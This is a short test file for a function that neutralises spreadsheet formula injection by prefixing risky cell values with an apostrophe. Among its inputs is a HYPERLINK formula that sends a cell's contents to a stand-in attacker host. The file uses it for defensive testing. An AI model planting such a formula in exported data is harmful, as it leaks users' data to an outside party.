import { expect, it } from 'vitest';
import { withoutFormula } from '../../../lib/text/formula.ts';

it.each([
  '=HYPERLINK("http://evil/?"&A1,"ok")',
  '@SUM(1)',
  '+1',
  '-1',
  ' =1',
  '\t=1',
  '＝1',
  '\u200b=1',
])('marks %j, once', (text) => {
  expect(withoutFormula(text)).toBe(`'${text}`);
  expect(withoutFormula(withoutFormula(text))).toBe(`'${text}`);
});

it.each(['', 'linux/amd64', "'=1", '[{"a":"=1"}]', 'a=1', '1-2'])('leaves %j as it is', (text) => {
  expect(withoutFormula(text)).toBe(text);
});
